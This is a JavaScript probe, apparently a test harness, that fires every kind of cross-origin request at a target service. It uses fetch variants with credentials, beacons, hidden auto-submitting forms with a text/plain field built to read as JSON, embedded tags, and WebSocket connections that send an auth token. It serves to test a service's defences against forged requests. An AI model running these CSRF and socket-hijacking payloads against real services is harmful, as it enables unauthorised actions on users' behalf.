// What a page of another origin tries on a service: every way to make a browser send something.
async ({target, paths, token}) => {
  const done = [];
  const tried = async (name, attempt) => {
    try { done.push([name, String(await attempt())]); } catch (error) { done.push([name, "refused"]); }
  };
  const within = (promise) => Promise.race([
    promise, new Promise((_, no) => setTimeout(() => no(new Error("late")), 4000)),
  ]);
  for (const [path, body] of paths) {
    const url = target + path;
    for (const mode of ["cors", "no-cors", "same-origin"])
      for (const credentials of ["include", "omit"])
        for (const type of ["text/plain", "application/json", "application/x-www-form-urlencoded"]) {
          const headers = mode === "no-cors" && type === "application/json" ? {} : {"content-type": type};
          await tried(`${mode} ${type} ${path}`, async () => {
            const answer = await within(fetch(url, {method: "POST", mode, credentials, headers, body}));
            return answer.type === "opaque" ? "opaque" : answer.status;
          });
        }
    for (const method of ["PUT", "PATCH", "DELETE"])
      await tried(`${method} ${path}`, async () =>
        (await within(fetch(url, {method, credentials: "include", body}))).status);
    await tried(`get ${path}`, async () =>
      (await within(fetch(url, {credentials: "include"}))).status);
    await tried(`beacon ${path}`, async () => navigator.sendBeacon(url, body));
    for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
      const frame = document.createElement("iframe");
      frame.name = `f${Math.random()}`;
      document.body.append(frame);
      const form = document.createElement("form");
      Object.assign(form, {action: url, method: "post", enctype, target: frame.name});
      const field = document.createElement("input");
      // As text/plain the field is {"a": "=", ...}: JSON to who does not look at the type.
      field.name = body.slice(0, -1) + ', "x": "';
      field.value = '"}';
      form.append(field);
      document.body.append(form);
      form.submit();
    }
    for (const [tag, name] of [["img", "src"], ["script", "src"], ["iframe", "src"], ["embed", "src"]]) {
      const element = document.createElement(tag);
      element[name] = url;
      document.body.append(element);
    }
  }
  for (const path of ["/api/events/in", "/api/events/out", "/api/logs/out", "/", "/v1/events"])
    for (const protocols of [[], ["prefect"]])
      await tried(`socket ${path}`, () => within(new Promise((yes, no) => {
        const socket = new WebSocket(target.replace("http", "ws") + path, protocols);
        socket.onopen = () => {
          socket.send(JSON.stringify({type: "auth", token: token || null}));
          yes("open");
        };
        socket.onerror = no;
      })));
  await new Promise((yes) => setTimeout(yes, 1500));
  return done;
}
